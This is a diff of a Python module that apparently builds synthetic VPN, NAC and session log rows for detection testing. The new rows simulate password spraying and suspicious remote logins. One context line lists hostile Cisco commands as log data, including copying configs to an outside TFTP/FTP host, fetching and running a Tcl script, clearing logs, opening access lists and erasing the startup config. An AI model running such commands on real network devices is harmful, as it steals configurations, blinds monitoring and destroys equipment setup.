@@ -2,7 +2,8 @@
 """Sessions that differ by where they go from and to: zones, ports, bytes up and down, how they end, who, which country.
 
 A row of SESSIONS is `zones source target port transport end application sent received seconds country user`. Zones are `users>wan` and the like, country is
-`home`, `-` or a code, user is `person`, `service`, `admin` or `-`; `!` keeps an application on a port that is not its own. NAC rows are `outcome ;; who ;; method ;; device ;; reason ;; more`. edge.py writes both.
+`home`, `-` or a code, user is `person`, `service`, `admin` or `-`; `!` keeps an application on a port that is not its own. NAC rows are `outcome ;; who ;; method ;; device ;; reason ;; more`, TUNNELS rows
+`outcome ;; user ;; country ;; reason ;; system ;; machine ;; bytes up ;; bytes down`. edge.py writes them.
 """
 from __future__ import annotations
 
@@ -120,4 +121,21 @@ passed ;; service ;; vpn «PAP_ASCII|SAML» ;; «Linux-Workstation|Unknown|Windo
 passed ;; guest ;; dot1x PEAP (EAP-MSCHAPv2) ;; «Linux-Workstation|Unknown» ;; - ;; «Corp-Users|VPN-Admins» NonCompliant
 # T1562 nac devices opened by command
 command ;; «admin|service|guessed» ;; TACACS «no aaa new-model|username @junk@ privilege 15 secret 0 @junk@|no logging host «ip2»|monitor session 1 source interface Gi1/0/1 - 48|copy running-config tftp://«pub»/c|copy startup-config ftp://«pub»/|no access-list «num:10:199»|ip access-list extended «num:100:199» permit ip any any|no ip access-group «num:100:199» in|clear logging|reload in 1|erase startup-config|guestshell enable|tclsh tftp://«pub»/t.tcl|interface Tunnel«num:1:9» tunnel destination «pub»|snmp-server community public RW» ;; Network-Device ;; - ;; Network-Admins privilege 15
+"""))
+
+TUNNELS = table(phrased(r"""
+# tunnels of people at work
+success ;; «user» ;; home ;; - ;; «Microsoft Windows 11 Pro|Microsoft Windows 10 Enterprise|Apple Mac OS X 14.«num:0:6»|Apple iOS 17.«num:0:6»|Android 14» ;; «workstation» ;; 0 ;; 0
+success ;; «user» ;; @near@ ;; - ;; «Microsoft Windows 11 Pro|Apple Mac OS X 14.«num:0:6»|Apple iOS 17.«num:0:6»» ;; «workstation» ;; 0 ;; 0
+closed ;; «user» ;; «home|home|@near@» ;; «user logout|client logout|idle timeout|session expired|User Requested|Max time exceeded|Lost Service|Connection Preempted» ;; «Microsoft Windows 11 Pro|Apple Mac OS X 14.1» ;; «workstation» ;; @large@ ;; @large@
+failed ;; «user» ;; «home|home|@near@» ;; «wrong password|Authentication failed: Invalid username or password|password expired|certificate expired|OTP code wrong|SAML login cancelled|Login denied, two factor timeout» ;; «Microsoft Windows 11 Pro|Apple Mac OS X 14.1|Android 14» ;; «workstation» ;; 0 ;; 0
+failed ;; «user» ;; home ;; «HIP check failed: disk not encrypted|client version not supported|not in allow list|host not compliant» ;; Microsoft Windows 10 Pro ;; «workstation» ;; 0 ;; 0
+success ;; «svc» ;; home ;; - ;; «Linux Ubuntu 22.04|Microsoft Windows Server 2022» ;; «server» ;; 0 ;; 0
+# T1110.003 tunnels guessed at
+failed ;; @guessed@ ;; «@elsewhere@|US|NL|DE» ;; «unknown user|Authentication failed: Invalid username or password|user not found in allow list|account locked out|sslvpn_login_unknown_user|User was not found|too many attempts» ;; «Browser|Linux|unknown|Microsoft Windows 7» ;; «unknown|N/A|localhost|DESKTOP-«HEX:7»» ;; 0 ;; 0
+failed ;; «user» ;; «@elsewhere@|US|NL» ;; «account locked out|blocked after «num:10:900» failures|password spray signature|wrong password, «num:10:400» failures from this address» ;; «Browser|Linux|unknown» ;; «unknown|N/A|localhost» ;; 0 ;; 0
+# T1133 tunnels of strangers
+success ;; «user» ;; @elsewhere@ ;; - ;; «Linux Kali|Linux Debian|unknown|Microsoft Windows 7|Microsoft Windows Server 2012 R2|Browser» ;; «kali|DESKTOP-«HEX:7»|WIN-«HEX:10»|localhost|parrot|vps-«num:100:999»» ;; 0 ;; 0
+success ;; ««svc»|administrator|test|backup|vpn|guest|scanner|«admin»» ;; «@elsewhere@|US|NL» ;; - ;; «Linux Kali|Linux|unknown|Browser|Microsoft Windows Server 2012 R2|openconnect» ;; «kali|DESKTOP-«HEX:7»|WIN-«HEX:10»|unknown|localhost» ;; 0 ;; 0
+closed ;; ««user»|«svc»|test|backup» ;; @elsewhere@ ;; «user logout|User Requested|Lost Service|connection preempted by login from another country» ;; «Linux|unknown|Microsoft Windows 7» ;; «kali|DESKTOP-«HEX:7»|WIN-«HEX:10»|unknown» ;; @large@ ;; @huge@
 """))
